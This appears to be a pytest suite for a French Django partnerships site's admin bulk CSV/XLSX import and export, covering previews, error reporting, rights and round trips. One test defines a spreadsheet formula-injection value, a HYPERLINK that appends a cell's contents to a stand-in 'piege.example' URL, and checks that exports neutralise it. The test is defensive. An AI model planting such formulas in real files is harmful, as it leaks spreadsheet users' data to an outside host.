"""Bulk import and export through the admin: preview, line-and-column errors, all or nothing,
drafts only, rights, search, filters, and a full round trip (CSV and XLSX)."""

import csv
import io
from datetime import date, datetime, timedelta

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from partnerships.models import (
    NARRATIVE_SECTIONS,
    CaseStudy,
    KeyFigure,
    Participation,
    Partner,
    PublicationStatus,
    Resource,
    ResourceFormat,
    Territory,
    TerritoryLevel,
    Theme,
    Transition,
)
from tests import factories
from tests.test_admin import admin_url

pytestmark = pytest.mark.django_db

RESOURCE_HEADERS = ["titre", "résumé", "format", "thématiques", "territoires", "mots-clés"]


@pytest.fixture
def curator_client(client):
    client.force_login(factories.curator())
    return client


@pytest.fixture
def places(france):
    region = factories.TerritoryFactory(level=TerritoryLevel.REGION, code="84", name="AURA")
    department = factories.TerritoryFactory(
        level=TerritoryLevel.DEPARTMENT, code="84", name="Vaucluse", parents=[region]
    )
    rhone = factories.TerritoryFactory(
        level=TerritoryLevel.DEPARTMENT, code="69", name="Rhône", parents=[region]
    )
    lyon = factories.TerritoryFactory(
        level=TerritoryLevel.COMMUNE, code="69123", name="Lyon", parents=[rhone]
    )
    return {"region": region, "vaucluse": department, "rhone": rhone, "lyon": lyon}


def csv_upload(headers, rows, name="import.csv", delimiter=","):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode("utf-8"), "text/csv")


def xlsx_upload(headers, rows, name="import.xlsx"):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def format_index(form, label):
    return next(value for value, text in form.fields["format"].choices if label in str(text))


def preview(client, model, upload):
    page = client.get(admin_url(model, "import"))
    assert page.status_code == 200
    label = "xlsx" if upload.name.endswith(".xlsx") else "csv"
    data = {"format": format_index(page.context["form"], label), "import_file": upload}
    if "resource" in page.context["form"].fields:
        data["resource"] = "0"
    return client.post(admin_url(model, "import"), data)


def confirm(client, model, response):
    form = response.context["confirm_form"]
    return client.post(
        reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_process_import"),
        form.initial,
        follow=True,
    )


def import_file(client, model, upload):
    response = preview(client, model, upload)
    assert response.context.get("confirm_form") is not None, response.content.decode()[-3000:]
    return confirm(client, model, response)


def page_text(response) -> str:
    return response.content.decode()


# -- preview, errors, all or nothing -------------------------------------------------------


def test_the_dry_run_previews_every_row_and_saves_nothing(curator_client, places):
    upload = csv_upload(
        RESOURCE_HEADERS,
        [
            [f"Guide importé {n}", "Résumé", "guide-kit", "mobilite", "69123", "vélo"]
            for n in range(1, 4)
        ],
    )
    response = preview(curator_client, Resource, upload)
    assert response.status_code == 200
    html = page_text(response)
    assert "Aperçu des 3 lignes du fichier : 3 créations (en brouillon)" in html
    for n in range(1, 4):
        assert f"Guide importé {n}" in html
    assert not Resource.objects.exists()
    assert response.context["confirm_form"] is not None


def test_imported_rows_are_drafts_indexed_and_found_once_published(curator_client, places):
    upload = csv_upload(
        RESOURCE_HEADERS,
        [["Covoiturage solidaire en Rhône", "Un guide", "guide-kit", "mobilite", "69123", ""]],
    )
    response = import_file(curator_client, Resource, upload)
    assert [str(m) for m in response.context["messages"]] == [
        "Import terminé : 1 brouillon créé, 0 élément mis à jour."
    ]
    resource = Resource.objects.get()
    assert resource.status == PublicationStatus.DRAFT
    assert "covoiturage" in resource.search_document
    assert "lyon" in resource.search_document  # territory names are part of the document
    assert list(resource.coverage.all()) == [places["lyon"]]
    assert list(resource.themes.values_list("slug", flat=True)) == ["mobilite"]
    log = Transition.objects.get(object_id=resource.pk)
    assert (log.from_status, log.to_status, log.comment) == ("", "draft", "Import (import.csv)")
    assert resource.history.count() == 1
    version = resource.history.first()
    assert version.history_user.username == "curatrice"
    assert version.history_type == "+"
    assert list(version.coverage.values_list("territory_id", flat=True)) == [places["lyon"].pk]
    assert list(version.themes.values_list("theme__slug", flat=True)) == ["mobilite"]
    assert version.tag_names == []

    search = reverse("partnerships:resource_list")
    assert "Covoiturage solidaire" not in page_text(
        curator_client.get(search, {"q": "covoiturage"})
    )
    curator_client.post(
        admin_url(Resource, "changelist"),
        {"action": "publish_selected", "_selected_action": [resource.pk]},
    )
    assert "Covoiturage solidaire" in page_text(curator_client.get(search, {"q": "covoiturage"}))


def test_one_bad_row_names_its_line_and_column_and_nothing_is_imported(curator_client, places):
    upload = csv_upload(
        RESOURCE_HEADERS,
        [
            ["Bonne ligne", "", "guide-kit", "mobilite", "69123", ""],
            ["Thème inconnu", "", "guide-kit", "astronomie", "69123", ""],
            ["Territoire inconnu", "", "guide-kit", "", "99999", ""],
        ],
    )
    response = preview(curator_client, Resource, upload)
    html = page_text(response)
    assert response.context.get("confirm_form") is None
    assert "Fichier refusé : rien n" in html
    assert "Ligne 3 du fichier, « thématiques » : thématique inconnu(e) : « astronomie »" in html
    assert "Ligne 4 du fichier, « territoires » : territoire inconnu : « 99999 »" in html
    assert not Resource.objects.exists()


def test_a_required_value_missing_is_reported_by_column(curator_client, places):
    upload = csv_upload(RESOURCE_HEADERS, [["Sans format", "", "", "", "", ""]])
    html = page_text(preview(curator_client, Resource, upload))
    assert "Ligne 2 du fichier, « format » : " in html
    assert not Resource.objects.exists()


def test_a_file_that_went_wrong_after_the_preview_imports_nothing(curator_client, places):
    upload = csv_upload(
        RESOURCE_HEADERS,
        [
            ["Première", "", "guide-kit", "", "69123", ""],
            ["Seconde", "", "guide-kit", "mobilite", "69123", ""],
        ],
    )
    response = preview(curator_client, Resource, upload)
    Theme.objects.filter(slug="mobilite").delete()  # a curator removes a theme meanwhile
    result = confirm(curator_client, Resource, response)
    messages = [str(m) for m in result.context["messages"]]
    assert messages and messages[0].startswith("Import annulé, rien n'a été importé")
    assert not Resource.objects.exists()
    assert not Transition.objects.exists()


def test_unknown_or_missing_headers_refuse_the_file(curator_client):
    upload = csv_upload(["titre", "couleur"], [["Sans format", "bleu"]])
    html = page_text(preview(curator_client, Resource, upload))
    assert "colonnes inconnues : « couleur »" in html
    assert "colonnes obligatoires absentes : « format »" in html
    assert not Resource.objects.exists()


def test_a_slug_twice_in_the_file_is_refused(curator_client, places):
    headers = ["identifiant", *RESOURCE_HEADERS]
    upload = csv_upload(
        headers,
        [
            ["meme-guide", "Un", "guide-kit", "", "", ""],
            ["meme-guide", "Deux", "guide-kit", "", "", ""],
        ],
    )
    html = page_text(preview(curator_client, Resource, upload))
    assert "« meme-guide » figure déjà à la ligne 2 du fichier." in html
    assert not Resource.objects.exists()


def test_ambiguous_territory_codes_must_name_their_level(curator_client, places):
    upload = csv_upload(
        RESOURCE_HEADERS,
        [
            ["Code ambigu", "", "guide-kit", "", "84", ""],
        ],
    )
    html = page_text(preview(curator_client, Resource, upload))
    assert "« 84 » est ambigu" in html
    upload = csv_upload(
        RESOURCE_HEADERS, [["Code précisé", "", "guide-kit", "", "region:84, département:84", ""]]
    )
    import_file(curator_client, Resource, upload)
    resource = Resource.objects.get()
    assert set(resource.coverage.all()) == {places["region"], places["vaucluse"]}


def test_semicolon_csv_in_windows_1252_as_excel_writes_it(curator_client, places):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(["Titre", "Résumé", "Format"])
    writer.writerow(["Étude régionale", "Résumé accentué", "etude-rapport"])
    upload = SimpleUploadedFile("excel.csv", buffer.getvalue().encode("cp1252"), "text/csv")
    import_file(curator_client, Resource, upload)
    resource = Resource.objects.get()
    assert (resource.title, resource.summary, resource.format.slug) == (
        "Étude régionale",
        "Résumé accentué",
        "etude-rapport",
    )


def test_an_xlsx_file_with_native_dates_and_numbers(curator_client, places):
    partner = factories.PartnerFactory(slug="asso-rhone")
    headers = [
        "titre",
        "territoire principal",
        "participants",
        "année de démarrage",
        "chiffres clés",
        "stade",
        "publié le",
    ]
    upload = xlsx_upload(
        headers,
        [
            [
                "Une alliance",
                69123,
                "asso-rhone | Porteur | animation",
                2019,
                "120 | personnes accompagnées\n3 | communes",
                "Consolidation",
                datetime(2030, 1, 15, 9, 30),
            ]
        ],
    )
    import_file(curator_client, CaseStudy, upload)
    case_study = CaseStudy.objects.get()
    assert case_study.main_territory == places["lyon"]
    assert case_study.start_year == 2019
    assert case_study.stage == "consolidation"
    assert case_study.status == PublicationStatus.DRAFT
    assert timezone.localtime(case_study.published_at).replace(tzinfo=None) == timezone.datetime(
        2030, 1, 15, 9, 30
    )
    assert [(p.partner, p.role, p.contribution) for p in case_study.participations.all()] == [
        (partner, "porteur", "animation")
    ]
    assert [(f.value, f.label) for f in case_study.key_figures.all()] == [
        ("120", "personnes accompagnées"),
        ("3", "communes"),
    ]


def test_updating_an_existing_row_keeps_its_status(curator_client, places):
    resource = factories.ResourceFactory(slug="guide-en-ligne", title="Ancien titre")
    upload = csv_upload(
        ["identifiant", "titre", "format", "statut"],
        [["guide-en-ligne", "Nouveau titre", "guide-kit", "brouillon"]],
    )
    response = import_file(curator_client, Resource, upload)
    assert "0 brouillon créé, 1 élément mis à jour" in str(list(response.context["messages"])[0])
    resource.refresh_from_db()
    assert resource.title == "Nouveau titre"
    assert resource.status == PublicationStatus.PUBLISHED  # the column is never applied


def test_an_import_that_changes_the_tags_leaves_one_version_with_them(curator_client, places):
    resource = factories.ResourceFactory(slug="guide-tague", title="Guide")
    resource.tags.set(["vélo", "covoiturage"])
    versions_before = resource.history.count()
    upload = csv_upload(
        ["identifiant", "titre", "format", "mots-clés"],
        [["guide-tague", "Guide", "guide-kit", "vélo, autopartage, ruralité"]],
    )
    import_file(curator_client, Resource, upload)
    assert sorted(resource.tags.names()) == ["autopartage", "ruralité", "vélo"]
    assert resource.history.count() == versions_before + 1
    version = resource.history.first()
    assert version.tag_names == ["autopartage", "ruralité", "vélo"]
    assert version.history_change_reason == "Import (import.csv)"


# -- rights -------------------------------------------------------------------------------


def test_a_contributor_imports_drafts(client, places):
    client.force_login(factories.contributor())
    upload = csv_upload(RESOURCE_HEADERS, [["Brouillon importé", "", "guide-kit", "", "", ""]])
    import_file(client, Resource, upload)
    assert Resource.objects.get().status == PublicationStatus.DRAFT


@pytest.mark.parametrize("status", ["publié", "Archivé", "published"])
def test_a_contributor_who_tries_to_publish_by_import_is_refused(client, places, status):
    client.force_login(factories.contributor())
    upload = csv_upload(["titre", "format", "statut"], [["Tentative", "guide-kit", status]])
    html = page_text(preview(client, Resource, upload))
    assert "Ligne 2 du fichier, « statut » : seul un curateur peut publier ou archiver" in html
    assert not Resource.objects.exists()


def test_a_contributor_cannot_update_published_content_by_import(client, places):
    factories.ResourceFactory(slug="en-ligne", title="En ligne")
    client.force_login(factories.contributor())
    upload = csv_upload(["identifiant", "titre", "format"], [["en-ligne", "Modifié", "guide-kit"]])
    html = page_text(preview(client, Resource, upload))
    assert "seul un curateur peut le modifier" in html
    assert Resource.objects.get().title == "En ligne"


def test_import_needs_the_add_permission(client):
    from django.contrib.auth.models import Permission, User

    reader = User.objects.create_user("lecteur", password="x", is_staff=True)
    reader.user_permissions.set(Permission.objects.filter(codename="view_resource"))
    client.force_login(reader)
    assert client.get(admin_url(Resource, "import")).status_code == 403
    assert client.get(admin_url(Resource, "export")).status_code == 200


# -- export -------------------------------------------------------------------------------


def export(client, model, label="csv", query=""):
    url = admin_url(model, "export") + query
    page = client.get(url)
    form = page.context["form"]
    data = {"format": format_index(form, label)}
    for name, field in form.fields.items():
        if name not in ("format", "resource", "export_items") and field.initial is not False:
            data[name] = "on"
    if "resource" in form.fields:
        data["resource"] = "0"
    response = client.post(url, data)
    assert response.status_code == 200, page_text(response)[-2000:]
    return response


def read_export(response, label="csv"):
    if label == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        rows = [
            ["" if cell is None else str(cell) for cell in row]
            for row in book.active.iter_rows(values_only=True)
        ]
        return rows[0], rows[1:]
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    return rows[0], rows[1:]


def test_the_export_follows_the_changelist_filters_and_has_french_headers(curator_client):
    factories.ResourceFactory(title="En ligne")
    factories.ResourceFactory(title="En chantier", status=PublicationStatus.DRAFT)
    headers, rows = read_export(export(curator_client, Resource, query="?status__exact=draft"))
    assert headers[:4] == ["identifiant", "titre", "résumé", "contenu"]
    assert [row[1] for row in rows] == ["En chantier"]
    headers, rows = read_export(export(curator_client, Resource, query="?q=ligne"))
    assert [row[1] for row in rows] == ["En ligne"]


# -- formulas -----------------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://piege.example/?v="&A1,"Cliquez ici")'


@pytest.mark.parametrize("label", ["csv", "xlsx"])
def test_an_export_neutralises_formulas_and_imports_back_to_the_same_text(
    curator_client, places, label
):
    resource = factories.ResourceFactory(
        title=FORMULA_TITLE,
        summary="+33 4 72 00 00 00",
        external_url="https://example.org/a",
        status=PublicationStatus.DRAFT,
        published_at=None,
    )
    resource.tags.set(["@mention", "-moins", "'=protégé"])
    before = snapshot()

    response = export(curator_client, Resource, label)
    headers, rows = read_export(response, label)
    row = dict(zip(headers, rows[0], strict=True))
    # A spreadsheet shows these as text, never runs them.
    assert row["titre"] == "'" + FORMULA_TITLE
    assert row["résumé"] == "'+33 4 72 00 00 00"
    # a value that already starts with an apostrophe before « = » gets one more
    assert row["mots-clés"] == "''=protégé, -moins, @mention"
    assert row["lien externe"] == "https://example.org/a"  # other cells untouched
    if label == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert sheet.cell(row=2, column=headers.index("titre") + 1).data_type == "s"

    upload = SimpleUploadedFile(f"ressources.{label}", response.content)
    Resource.objects.all().delete()
    import_file(curator_client, Resource, upload)

    assert snapshot() == before
    imported = Resource.objects.get()
    assert imported.title == FORMULA_TITLE
    assert sorted(imported.tags.names()) == ["'=protégé", "-moins", "@mention"]


# -- round trip ---------------------------------------------------------------------------


def build_site(places):
    themes = list(Theme.objects.order_by("position")[:3])
    partners = [
        factories.PartnerFactory(
            name="Association Relais",
            siren="732829320",
            home_territory=places["lyon"],
            website="https://relais.example.org",
            description="Une association, avec « guillemets » et ; points-virgules.",
        ),
        factories.PartnerFactory(
            name="Fondation Élan",
            status=PublicationStatus.DRAFT,
            published_at=None,
            home_territory=places["vaucluse"],
        ),
    ]
    partners[0].themes.set(themes[:2])
    first = factories.ResourceFactory(
        title="=Guide du mécénat, édition 2",
        summary="Résumé\nsur deux lignes",
        body='<h2>Partie</h2><p>Texte <strong>gras</strong> et <a href="https://a.fr">lien</a></p>',
        format=ResourceFormat.objects.get(slug="guide-kit"),
        themes=themes,
        coverage=[places["region"], places["vaucluse"], places["lyon"]],
        publication_date=date(2024, 3, 1),
        external_url="https://example.org/guide",
        featured=True,
        language="en",
        published_at=timezone.now() + timedelta(days=3),
    )
    first.authors.set(partners)
    first.tags.add("mécénat", "PME, ETI", "territoire")
    first.audiences.set(factories.ActorTypeFactory.create_batch(2))
    second = factories.ResourceFactory(title="Étude", status=PublicationStatus.ARCHIVED)
    case_study = factories.CaseStudyFactory(
        title="Garage solidaire",
        main_territory=places["lyon"],
        stage="essaimage",
        start_year=2018,
        context="<p>Contexte</p>",
        results="<ul><li>Un</li><li>Deux</li></ul>",
        themes=themes[1:],
    )
    case_study.coverage.set([places["rhone"]])
    case_study.related_resources.set([first, second])
    case_study.participations.create(partner=partners[0], role="porteur", contribution="pilote")
    case_study.participations.create(partner=partners[1], role="financeur", position=1)
    case_study.key_figures.create(value="120", label="personnes | accompagnées", position=0)
    case_study.key_figures.create(value="3", label="communes", position=1)
    case_study.tags.add("mobilité")


def snapshot():
    """Every exported field of every row, relations by their stable identifiers."""

    def base(obj, names):
        return {name: getattr(obj, name) for name in names}

    partners = {
        p.slug: {
            **base(p, ["name", "description", "website", "siren", "published_at"]),
            "actor_type": p.actor_type.slug,
            "home": p.home_territory_id,
            "themes": sorted(p.themes.values_list("slug", flat=True)),
        }
        for p in Partner.objects.all()
    }
    resources = {
        r.slug: {
            **base(
                r,
                [
                    "title",
                    "summary",
                    "body",
                    "publication_date",
                    "language",
                    "external_url",
                    "featured",
                    "published_at",
                ],
            ),
            "format": r.format.slug,
            "themes": sorted(r.themes.values_list("slug", flat=True)),
            "audiences": sorted(r.audiences.values_list("slug", flat=True)),
            "partnership_types": sorted(r.partnership_types.values_list("slug", flat=True)),
            "coverage": sorted(r.coverage.values_list("pk", flat=True)),
            "authors": sorted(r.authors.values_list("slug", flat=True)),
            "tags": sorted(r.tags.names()),
        }
        for r in Resource.objects.all()
    }
    narrative = [name for name, _heading in NARRATIVE_SECTIONS]
    case_studies = {
        c.slug: {
            **base(
                c,
                ["title", "summary", "stage", "start_year", "featured", "published_at", *narrative],
            ),
            "main": c.main_territory_id,
            "coverage": sorted(c.coverage.values_list("pk", flat=True)),
            "themes": sorted(c.themes.values_list("slug", flat=True)),
            "related": sorted(c.related_resources.values_list("slug", flat=True)),
            "participants": [
                (p.partner.slug, p.role, p.contribution) for p in c.participations.all()
            ],
            "figures": [(f.value, f.label) for f in c.key_figures.all()],
            "tags": sorted(c.tags.names()),
        }
        for c in CaseStudy.objects.all()
    }
    return {"partners": partners, "resources": resources, "case_studies": case_studies}


@pytest.mark.parametrize("label", ["csv", "xlsx"])
def test_export_everything_then_import_into_an_empty_database_gives_equal_content(
    curator_client, places, label
):
    build_site(places)
    before = snapshot()
    files = {}
    for model in (Partner, Resource, CaseStudy):
        response = export(curator_client, model, label)
        files[model] = SimpleUploadedFile(f"{model._meta.model_name}.{label}", response.content)

    CaseStudy.objects.all().delete()
    Resource.objects.all().delete()
    Partner.objects.all().delete()
    assert not Participation.objects.exists() and not KeyFigure.objects.exists()

    for model in (Partner, Resource, CaseStudy):
        import_file(curator_client, model, files[model])

    assert snapshot() == before
    for model in (Partner, Resource, CaseStudy):
        assert set(model.objects.values_list("status", flat=True)) == {PublicationStatus.DRAFT}
    assert Territory.objects.filter(code="84").count() == 2
